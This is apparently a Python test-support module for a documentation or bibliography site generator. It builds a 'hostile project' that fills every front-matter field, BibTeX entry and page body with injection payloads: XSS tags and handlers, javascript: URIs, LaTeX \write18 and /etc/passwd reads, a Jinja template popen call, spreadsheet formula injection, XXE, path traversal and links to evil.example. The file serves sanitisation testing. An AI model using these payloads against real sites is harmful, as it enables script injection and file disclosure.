"""A project written by an enemy: every payload in every field of every kind, and in every body.

The fields come from the schemas of front matter and from what the reader of BibTeX asks for, so a
new field, or a new kind, joins by itself. ``MARK`` is what an output must never hold as markup.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from itertools import cycle
from typing import Any

from symposium.fields.compound_types import FieldGroup, ListOf, MapOf
from symposium.fields.date_types import YearType
from symposium.fields.field_types import FieldType, Keyword, OneOf, PrintedNumber, Prose, TextType
from symposium.fields.link_types import (
    Doi,
    Earlier,
    Id,
    Image,
    LinkType,
    LocatorType,
    PersonName,
    TalkId,
    TextFile,
)
from symposium.kinds import BY_NAME, KINDS
from symposium.kinds.kind import Reason
from symposium.kinds.participants import PARTICIPANT, PeopleField
from symposium.reading.entry_links import LINK_FIELDS

from support.every_field import TYPES, bib_fields
from support.hostile_bodies import ALL_WORKS, BLOCKS, LINKED, SECRET

RUN = "canary(1)"
"""What a payload calls when it runs; a browser of the tests defines it."""
MARK = "x-evil"
"""A tag or an attribute that is there only if text has become markup."""
MADE = "pwned7"
"""A word that is written nowhere: only code of a template or of Typst can have made it."""
FOREIGN = "evil.example"

PAYLOADS = (
    f"<script>{RUN}</script><x-evil>",
    f"</script><script>{RUN}</script><x-evil>",
    f"</title></style></textarea></noscript></template><x-evil><svg onload={RUN}>",
    f"--><x-evil><svg onload={RUN}><!--",
    f"]]><x-evil><img src=x onerror={RUN}>",
    f'" x-evil="1" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' x-evil='1' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    f"x x-evil=1 onmouseover={RUN} style=position:fixed",
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}",
    f"\u200bjavascript:{RUN}",
    f"&#106;avascript&colon;{RUN}",
    f"java&Tab;script&colon;{RUN}//&lt;x-evil&gt;",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"file:///etc/passwd //{FOREIGN}/x \\\\{FOREIGN}\\x",
    f"https://{FOREIGN}/<x-evil>\"'><script>{RUN}</script>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\style{{x-evil:1}}{{z}}$ $\\unicode{{x3c}}$",
    f"$\\class{{x-evil}}{{y}}$ $\\text{{<x-evil><script>{RUN}</script>}}$ $\\cssId{{canary}}{{x}}$",
    f"$\\def\\x{{\\x\\x}}\\x$ $\\newcommand\\y{{\\y\\y}}\\y$ $$\\require{{html}}\\url{{//{FOREIGN}}}$$",
    f'$a" x-evil="1$ $</math><x-evil><script>{RUN}</script>$',
    f"\\href{{javascript:{RUN}}}{{x}} \\url{{javascript:{RUN}}} \\input{{/etc/passwd}} \\write18{{id}}",
    f"<math href=javascript:{RUN}><x-evil>CLICK</math>",
    f"<style>@import'//{FOREIGN}';*{{x-evil:expression({RUN})}}</style><x-evil>",
    f"<base href=//{FOREIGN}/><x-evil><meta http-equiv=refresh content=0;//{FOREIGN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe><x-evil><object data=//{FOREIGN}>",
    "{{ 'pw' ~ 'ned7' }} {% set x = 'pw' %}{{ x }}ned7 ${'pw'+'ned7'} <%= 'pw'+'ned7' %>",
    "{{ cycler.__init__.__globals__.os.popen('echo pw' 'ned7').read() }} {% raw %}",
    "\u202eevil\u2066\u2069 \u200b\u200d\ufeff x\u0301\u0301\u0301 \U000e0041",
    "x\r\nSet-Cookie: x-evil=1\r\n\r\n<x-evil>",
    "=cmd|' /C calc'!A0 +1+1 -1 @SUM(1) \t=HYPERLINK(\"//evil.example\")",
    '#read("/etc/passwd") #("pw" + "ned7") #eval("\\"pw\\" + \\"ned7\\"") $#("pw"+"ned7")$ \\ #let x',
    '*_`#[x](//evil.example) <x> @x ~ // /* ] ) ] "',
    "END:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR\nX-EVIL;,:\\n",
    "</entry></feed><x-evil>&xxe;<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    '"},{"@type":"x-evil","url":"javascript:canary(1)"}</script><x-evil>\u2028\u2029',
    "\x00\x01\x08\x1b[31m\x7f\x85",
    "../../../../etc/passwd%00 ..\\..\\x <x-evil>",
    "prototype __proto__ constructor toString valueOf",
)  # fmt: skip
ADDRESS = next(one for one in PAYLOADS if one.startswith("https:"))
ALL = " ".join((ADDRESS, *PAYLOADS))

FIXED: Mapping[type[FieldType], Any] = {
    **{kind: values[0] for kind, values in TYPES.items()},
    YearType: 2020, Id: "all", Image: "files/a.png", LocatorType: "all#L1", TextFile: "all.txt",
    LinkType: f"https://{FOREIGN}/?'onclick='{RUN}'&quot;x-evil",
}  # fmt: skip
"""A value of each type that is no free text: what its schema lets through."""
FREE = frozenset({TextType, Doi, PrintedNumber, Prose, Keyword, PersonName, Reason})

Give = Callable[[], str]
"""Gives the next payload."""


def value_of(kind: FieldType, give: Give, *, wild: bool) -> Any:
    """Return a value for a field; a wild one is a payload wherever text can stand."""
    if isinstance(kind, ListOf):
        return [value_of(kind.item, give, wild=wild)]
    if isinstance(kind, MapOf):
        return {give()[:200]: value_of(kind.item, give, wild=wild)}
    if isinstance(kind, FieldGroup):
        return {one: value_of(of.type, give, wild=wild) for one, of in kind.fields.items()}
    if isinstance(kind, PeopleField):
        return [value_of(PARTICIPANT, give, wild=wild)]
    if wild or type(kind) in FREE:
        return give()
    if isinstance(kind, Earlier):
        return "all/old" if isinstance(kind.id, TalkId) else "old"
    if isinstance(kind, OneOf):
        return kind.words[-1]  # "retracted" and "moved" show more than any other word
    assert type(kind) in FIXED, (
        f"no value is known for {type(kind).__name__}: add one to TYPES of support/every_field.py"
    )
    return FIXED[type(kind)]


def front_matter(kind: str, give: Give, *, wild: bool) -> str:
    """Return front matter with all fields of a kind, as JSON, which is YAML too."""
    fields = BY_NAME[kind].group.fields
    values = {name: value_of(one.type, give, wild=wild) for name, one in fields.items()}
    del values["gone"]  # nothing else of such a record is shown
    if not wild:
        values.pop("key", None)  # the name of the file leads to the entry
        for name in (name for name, one in fields.items() if one.refers == "paper"):
            values[name] = ["all", *values[name]] if isinstance(values[name], list) else "all"
    return front(values)


def front(values: Mapping[str, Any]) -> str:
    """Return front matter as JSON, with characters escaped that YAML does not take."""
    text = json.dumps(values, ensure_ascii=False)
    for char in "\u2028\u2029\x7f\x85\ufeff":
        text = text.replace(char, f"\\u{ord(char):04x}")
    return f"---\n{text}\n---\n"


MORE = (
    "address", "annotation", "annote", "chapter", "edition", "eventtitle", "file", "howpublished",
    "journaltitle", "location", "maintitle", "organization", "shorttitle", "titleaddon", "venue",
    "x-evil", "verba", "urldate", "keywords", "abstract", "booktitle", "month", "day", "type",
    "crossref", "xdata", "language", "pubstate", "bookauthor", "translator",
)  # fmt: skip
FORMED = {
    "doi": '10.1234/x"><x-evil>', "eprint": "2101.00001", "eprinttype": "arxiv",
    "author+an": '1=<x-evil>,\' x-evil=1,x" x-evil="1,$\\class{x-evil}{y}$',
}  # fmt: skip
"""What is read only in a form, in which nearly anything can stand."""


def all_fields() -> list[str]:
    """Return the names of all fields of entries that anything reads, or that people have."""
    return [*dict.fromkeys((*bib_fields(), *LINK_FIELDS, *MORE))]


def braced(text: str) -> str:
    """Return a payload without what would end a value."""
    return "".join(char for char in text if char not in "{}")


def entries(names: list[str], turns: int, most: Give) -> Iterator[str]:
    """Yield entries: one with ``most`` in every field, then the payloads in turn."""
    texts = [name for name in names if name not in {"crossref", "xdata", "ids"}]
    dated = {"year": "2020", "date": "2020-05-01", "month": "5", "langid": "german"}

    def entry(kind: str, key: str, give: Give, fixed: Mapping[str, str] = dated) -> str:
        fields = "".join(f"  {name} = {{{fixed.get(name) or give()}}},\n" for name in texts)
        return f"@{kind}{{{key},\n{fields}}}\n"

    turn = iter(PAYLOADS * 1000)
    known = {**dated, **FORMED, "abstract": braced(ALL)}  # in which links are looked for
    yield entry("article", "all", lambda: braced(most()), known)
    yield entry("poster", "all-poster", lambda: braced(most()))
    for kind in ("inproceedings", "misc", "book", "phdthesis", "proceedings", "x-evil"):
        yield entry(kind, f"turn-{kind}", lambda: braced(next(turn)))
    for number in range(turns):
        yield entry("article", f"turn{number}", lambda: braced(next(turn)))
        wild = "".join(f"  {name} = {{{braced(next(turn))}}},\n" for name in names)
        yield f"@inproceedings{{wild{number},\n{wild}}}\n"
    for number, payload in enumerate(PAYLOADS):
        # What is in braces stays there; keys, types and names are payloads too.
        yield (
            f"@misc{{{payload},\n  title = {{{{{braced(payload)}}}}},\n  {payload} = {{x}},\n"
            f'  author = "{payload}",\n  year = {payload}\n}}\n\n'
            f"@{payload}{{broken{number}, title = {payload}, note = {{ {payload} }}\n\n"
        )


TURNS = 6
FEW = 1
SIZES = (FEW, TURNS)
"""How often of each kind the payloads have their turn: `make test` asks for few."""


def hostile_project(turns: int = TURNS) -> dict[str, str | bytes]:
    """Return the files of the project.

    Of each kind, one record has all payloads in each field, and ``turns`` have them in turn, as
    have the entries. All blocks stand in the bodies of each kind. Unless there are all `TURNS`, it
    is a third of the payloads, another one in the next field, and a block is in some kinds only. They
    begin with an address, since a text that is one may become a link.
    """
    some = [ALL] if turns == TURNS else [" ".join((ADDRESS, *PAYLOADS[n::3])) for n in range(3)]
    most = cycle(some).__next__
    index = "\n\n".join((f"# {braced(ALL)[:2000]}", *BLOCKS)) + "\n\n"
    # There are more links than five, so each form has others, too.
    linked = LINKED if turns == TURNS else LINKED[::5]
    files: dict[str, str | bytes] = {
        "refs.bib": "\n".join(entries(all_fields(), 7 * turns, most)),
        "index.md": index + ALL_WORKS,
        "notes.md": f"---\norphan: true\nhtml_meta:\n  {json.dumps(ALL[:900])}: x\n---\n{index}"
        + "\n\n".join(linked),
        "plain.rst": ":orphan:\n\nPlain\n=====\n\n" + ALL.replace("\n", " ") + "\n",
        "secret.txt": SECRET,
        "secret.png": SECRET,
        "files/a.png": b"\x89PNG\r\n\x1a\n",
        "files/a.txt": ALL,
        "sources/all.txt": "\n".join((ALL.replace("\n", " "), *PAYLOADS)),
        "files/evil.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
        "files/evil.html": f"<script>{RUN}</script>",
        "files/evil.js": RUN,
        "files/a.png.html": f"<script>{RUN}</script>",
    }
    given = cycle(PAYLOADS).__next__
    share = TURNS // turns
    for place, kind in enumerate(KINDS):
        blocks = BLOCKS[place % share :: share]
        folder = "events/all" if kind.name == "talk" else kind.folder
        if kind.name != "talk":
            title = f"# {braced(ALL)[:300]}\n\n"
            files[f"{folder}/index.md"] = title + "\n\n".join(blocks[::5])
        suffix = "/index.md" if kind.name == "event" else ".md"
        files[f"{folder}/gone{suffix}"] = front({"gone": ALL}) + "\n\n".join(blocks[::TURNS])
        files[f"{folder}/all{suffix}"] = front_matter(kind.name, most, wild=False) + BLOCKS[0]
        for number in range(turns):
            text = "\n\n".join(blocks[number::turns])
            files[f"{folder}/turn{number}{suffix}"] = (
                front_matter(kind.name, given, wild=False) + text
            )
            files[f"{folder}/wild{number}{suffix}"] = front_matter(kind.name, given, wild=True)
    return files
